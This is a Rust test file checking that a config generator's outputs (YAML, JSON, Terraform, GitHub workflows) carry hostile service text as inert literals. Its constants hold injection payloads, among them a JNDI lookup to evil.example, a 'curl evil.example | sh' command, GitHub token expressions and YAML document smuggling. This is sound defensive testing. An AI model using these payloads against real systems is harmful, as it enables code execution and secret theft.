//! `examples/hostile-strings`: a service whose free text holds quotes, a
//! YAML document marker, `${...}`, `${{ ... }}`, `$(...)`, backquotes,
//! `%{...}`, `{{ ... }}` and line breaks. Every format platc writes must
//! carry it as inert text that reads back as the same string; the oracles
//! (`.ci/run`) check that the files are valid.

mod common;

use serde_json::Value as Json;

const DESCRIPTION: &str = "Quote \" and ' and \\ then\n---\nkind: Secret\n${jndi:ldap://evil.example/x} ${{ secrets.GITHUB_TOKEN }} $(curl -s evil.example | sh) `id`\n%{ if true }x%{ endif } {{ $value }} {{> partial}} # not a comment";
const GREETING: &str = "\"; echo ${{ github.token }} $(id) hostile\nexport X=1";
const REASON: &str = "\"}} ${{ x }} $(id) --- \n kind: Secret";

fn output() -> std::collections::BTreeMap<String, String> {
    let c = common::compile(&common::examples().join("hostile-strings"));
    let out = c.output.expect("the hostile example builds");
    out.files.into_iter().map(|(p, f)| (p, f.contents.clone())).collect()
}

fn yaml_docs(text: &str) -> Vec<serde_yaml::Value> {
    use serde::Deserialize;
    serde_yaml::Deserializer::from_str(text).map(|d| serde_yaml::Value::deserialize(d).unwrap()).collect()
}

fn at<'a>(v: &'a serde_yaml::Value, path: &[&str]) -> &'a serde_yaml::Value {
    path.iter().fold(v, |v, k| v.get(*k).unwrap_or_else(|| panic!("no `{k}` in {v:?}")))
}

#[test]
fn yaml_outputs_carry_the_strings_intact() {
    let files = output();
    let catalog = yaml_docs(&files["hostile/catalog-info.yaml"]);
    assert_eq!(at(&catalog[0], &["metadata", "description"]).as_str(), Some(DESCRIPTION));
    let configmap = yaml_docs(&files["hostile/kubernetes/production/configmap.yaml"]);
    assert_eq!(at(&configmap[0], &["data", "GREETING"]).as_str(), Some(GREETING));
    let deployment = yaml_docs(&files["hostile/kubernetes/production/deployment.yaml"]);
    let expected = format!("security.read_only_root_filesystem = overridden because: {REASON}");
    assert_eq!(at(&deployment[0], &["metadata", "annotations", "platc.dev/override.0"]).as_str(), Some(&*expected));
    // No text became a document of its own.
    for (path, text) in files.iter().filter(|(p, _)| p.ends_with(".yaml") || p.ends_with(".yml")) {
        for doc in yaml_docs(text) {
            assert_ne!(doc.get("kind").and_then(|k| k.as_str()), Some("Secret"), "{path}");
        }
    }
}

#[test]
fn the_dashboard_carries_the_description_intact() {
    let dashboard: Json = serde_json::from_str(&output()["hostile/dashboards/dashboard.json"]).unwrap();
    assert_eq!(dashboard["description"].as_str(), Some(DESCRIPTION));
}

/// The value of an HCL quoted string, refusing any `${` or `%{` that is not
/// escaped (which Terraform would evaluate).
fn hcl_literal(quoted: &str) -> String {
    let bytes = quoted.as_bytes();
    for (i, w) in bytes.windows(2).enumerate() {
        if (w == b"${" || w == b"%{") && (i == 0 || bytes[i - 1] != w[0]) {
            panic!("an unescaped template sequence at {i} in {quoted}");
        }
    }
    let json: String = serde_json::from_str(quoted).expect("an HCL string is JSON-escaped");
    json.replace("$${", "${").replace("%%{", "%{")
}

#[test]
fn terraform_carries_the_description_as_a_literal() {
    let main = &output()["hostile/terraform/production/main.tf"];
    let line =
        main.lines().find(|l| l.trim_start().starts_with("description") && l.contains("encryption at rest")).unwrap();
    let quoted = line.split_once('=').unwrap().1.trim();
    assert_eq!(hcl_literal(quoted), format!("platc: encryption at rest for hostile (production): {DESCRIPTION}"));
}

#[test]
fn workflows_never_evaluate_or_run_the_strings() {
    let files = output();
    let ci = yaml_docs(&files[".github/workflows/hostile-ci.yml"]);
    let description = at(&ci[0], &["jobs", "image", "with", "description"]).as_str().unwrap();
    // GitHub evaluates `${{ ... }}` in `with:` values: the only expression
    // left is the one that writes a literal `${{`.
    let literal = "${{ '${{' }}";
    assert!(!description.replace(literal, "").contains("${{"), "{description}");
    assert_eq!(description.replace(literal, "${{"), DESCRIPTION);
    // No service text inside a script: values reach `run:` only through `env:`.
    for (path, text) in files.iter().filter(|(p, _)| p.starts_with(".github/workflows/")) {
        for doc in yaml_docs(text) {
            let jobs = doc.get("jobs").and_then(|j| j.as_mapping()).unwrap();
            for job in jobs.values() {
                for step in job.get("steps").and_then(|s| s.as_sequence()).into_iter().flatten() {
                    let run = step.get("run").and_then(|r| r.as_str()).unwrap_or("");
                    assert!(!run.contains("evil.example") && !run.contains("${{"), "{path}: {run}");
                }
            }
        }
    }
}
